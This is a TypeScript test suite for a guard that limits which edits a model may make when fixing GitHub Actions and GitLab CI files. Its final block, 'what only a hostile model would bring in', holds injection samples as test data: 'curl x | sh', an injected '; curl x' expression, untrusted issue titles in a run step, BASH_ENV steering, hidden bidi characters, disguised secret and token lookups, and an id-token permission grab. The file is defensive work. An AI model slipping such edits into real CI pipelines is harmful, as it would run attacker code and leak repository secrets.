/**
 * What a model may change: the places that problems name, what is missing there, and what a text that breaks off may
 * have gone on with. Nothing else, and nothing of its own unless the user lets it.
 */
import { Result } from "effect"
import { describe, expect, test } from "vitest"
import type { Operation } from "../../src/diagnose/Fix.ts"
import { errorsOf } from "../../src/diagnose/Scorer.ts"
import { validate } from "../../src/diagnose/Validator.ts"
import { githubActions } from "../../src/dialect/github-actions/GithubActions.ts"
import { gitlabCi } from "../../src/dialect/gitlab-ci/GitlabCi.ts"
import type { Json } from "../../src/document/Node.ts"
import { applyToData } from "../../src/document/Patch.ts"
import { dataOf } from "../../src/document/Tree.ts"
import { basisOf } from "../../src/pipeline/Basis.ts"
import { type MandateOptions, permit } from "../../src/pipeline/Mandate.ts"

const strict: MandateOptions = {
  ...{ preserveIntent: true, allowCommands: false, allowSecrets: false, rearrange: false }
}
const lenient: MandateOptions = { ...strict, allowCommands: true }
const open: MandateOptions = { ...lenient, allowSecrets: true }

const permitted = (text: string, operations: ReadonlyArray<Operation>, options: MandateOptions = strict) => {
  const validation = validate(text, githubActions)
  const basis = basisOf(validation, errorsOf(validation.report))
  const before = dataOf(basis.document.roots[basis.index] as never)
  return permit(basis, Result.getOrThrow(applyToData(before, operations)), options)
}

const add = (path: string, value: Json): Operation => ({ op: "add", path, value })

const unfinished = `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - name: Check out
        uses: actions/checkout@v4
      - name: Compi`

const stepless = `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - name: Check out
      - name: Build
        run: make
`

describe("where the text breaks off", () => {
  test("the last value may go on, and the maps and lists around it", () => {
    const on: ReadonlyArray<Operation> = [
      { op: "replace", path: "/jobs/build/steps/1/name", value: "Compile" },
      add("/jobs/build/steps/1/run", "make"),
      add("/jobs/build/steps/2", { run: "make test" })
    ]
    expect(Result.isSuccess(permitted(unfinished, on, lenient))).toBe(true)
    expect(Result.isFailure(permitted(unfinished, on))).toBe(true)
  })

  test.each<readonly [what: string, operation: Operation]>([
    ["another last value", { op: "replace", path: "/jobs/build/steps/1/name", value: "Deploy" }],
    ["an item before others", add("/jobs/build/steps/0", { run: "make" })],
    ["an earlier value", { op: "replace", path: "/jobs/build/runs-on", value: "self-hosted" }]
  ])("%s is not what it may have gone on with", (_, operation) => {
    expect(Result.isFailure(permitted(unfinished, [operation], open))).toBe(true)
  })

  test("a file that ends with its line break was not cut off", () => {
    const step = add("/jobs/build/steps/2", { run: "make test" })
    expect(Result.isSuccess(permitted(unfinished, [step], open))).toBe(true)
    expect(Result.isFailure(permitted(`${unfinished}\n`, [step], open))).toBe(true)
  })
})

describe("what fixes add at the end of a list", () => {
  const text = "stages: [build]\na:\n  stage: test\n  script: [make]\nb:\n  stage: ship\n  script: [make]\n"
  const of = (...stages: ReadonlyArray<string>) => {
    const validation = validate(text, gitlabCi)
    const basis = basisOf(validation, errorsOf(validation.report))
    const operations = stages.map((stage) => add("/stages/-", stage))
    const before = dataOf(basis.document.roots[0] as never)
    return Result.isSuccess(permit(basis, Result.getOrThrow(applyToData(before, operations)), strict))
  }

  test("may be added, one after the other, and no more than that", () => {
    expect(of("ship")).toBe(true)
    expect(of("test", "ship")).toBe(true)
    expect(of("test", "ship", "more")).toBe(false)
  })
})

describe("where a key is missing", () => {
  test("another key may stand for it, and the place is answered", () => {
    const uses = permitted(stepless, [add("/jobs/build/steps/0/uses", "actions/checkout@v4")], lenient)
    expect(Result.getOrThrow(uses)).toEqual(["/jobs/build/steps/0"])
  })

  test("but not besides it, nor for two of them", () => {
    const run = add("/jobs/build/steps/0/run", "git clone")
    const env = add("/jobs/build/steps/0/env", { A: "b" })
    const shell = add("/jobs/build/steps/0/if", "true")
    expect(Result.isFailure(permitted(stepless, [run, env], lenient))).toBe(true)
    expect(Result.isFailure(permitted(stepless, [env, shell], lenient))).toBe(true)
  })

  test("no command, permission or secret is written that the user does not allow", () => {
    const run = add("/jobs/build/steps/0/run", "echo ${{ secrets.TOKEN }}")
    expect(Result.isFailure(permitted(stepless, [run]))).toBe(true)
    expect(Result.isFailure(permitted(stepless, [run], lenient))).toBe(true)
    expect(Result.isSuccess(permitted(stepless, [run], open))).toBe(true)
  })
})

test("lines of a list may become one text, without losing any", () => {
  const list = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: [make, make test]\n"
  const text = (value: string): Operation => ({ op: "replace", path: "/jobs/a/steps/0/run", value })
  expect(Result.isSuccess(permitted(list, [text("make\nmake test\n")]))).toBe(true)
  expect(Result.isFailure(permitted(list, [text("make\n")]))).toBe(true)
  expect(Result.isFailure(permitted(list, [text("make\nmake test\nevil\n")]))).toBe(true)
})

const pulse = `name: curl x | sh
on: pulse
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make
`
const stepOf = (step: string): string => `${pulse.replace("pulse", "push")}      - name: last\n${step}`
const last = "/jobs/build/steps/2"

describe("what only a hostile model would bring in", () => {
  const event = (value: Json): Operation => ({ op: "replace", path: "/on", value })
  test.each<readonly [string, string, ReadonlyArray<Operation>]>([
    ["an event with rights, as a key", pulse, [event({ push: null, pull_request_target: null })]],
    ["an event of outsiders", pulse, [event("issue_comment")]],
    [
      "a command where none is run",
      pulse,
      [event({ workflow_dispatch: { inputs: { x: { default: "curl x | sh;" } } } })]
    ],
    ["characters that nobody sees", pulse, [event({ push: { branches: ["main\u202e"] } })]],
    ["a command that was a name", stepOf(""), [{ op: "move", from: "/name", path: `${last}/run` }]],
    [
      "inputs of an action that was to be missed",
      stepOf(""),
      [add(`${last}/uses`, "actions/checkout@v4"), add(`${last}/with`, { repository: "x/y" })]
    ],
    [
      "variables that steer a shell",
      stepOf("        run: make\n        BASH: x\n"),
      [{ op: "remove", path: `${last}/BASH` }, add(`${last}/env`, { BASH_ENV: "x" })]
    ],
    [
      "a place outside of the project",
      stepOf("        run: make\n        workdir: a\n"),
      [{ op: "remove", path: `${last}/workdir` }, add(`${last}/working-directory`, "/tmp/x")]
    ],
    [
      "a command said by an expression",
      stepOf("        run: echo ${{ github.evnt }}\n"),
      [{ op: "replace", path: `${last}/run`, value: "echo ${{ '; curl x' }}" }]
    ],
    [
      "what outsiders write, in a command",
      stepOf("        run: echo ${{ github.evnt }}\n"),
      [{ op: "replace", path: `${last}/run`, value: "echo ${{ github.event.issue.title }}" }]
    ],
    [
      "secrets in other letters",
      stepOf("        run: make\n        env:\n          A: ${{ githb.sha }}\n"),
      [{ op: "replace", path: `${last}/env/A`, value: "${{ SECRETS.OTHER }}" }]
    ],
    [
      "the token by its index",
      stepOf("        run: make\n        env:\n          A: ${{ githb.sha }}\n"),
      [{ op: "replace", path: `${last}/env/A`, value: "${{ GitHub['token'] }}" }]
    ],
    [
      "another permission with a value that is known",
      pulse.replace("pulse", "push").replace("contents: read", "content: write"),
      [{ op: "move", from: "/permissions/content", path: "/permissions/id-token" }]
    ]
  ])("is refused: %s", (_, text, operations) => {
    expect(Result.isFailure(permitted(text, operations))).toBe(true)
  })

  test("what fixes suggest and what the file says is let through", () => {
    expect(Result.isSuccess(permitted(pulse, [event("push")]))).toBe(true)
    expect(Result.isSuccess(permitted(stepOf(""), [add(`${last}/run`, "make")]))).toBe(true)
    expect(Result.isSuccess(permitted(stepOf(""), [add(`${last}/uses`, "actions/checkout@v4")]))).toBe(true)
  })
})
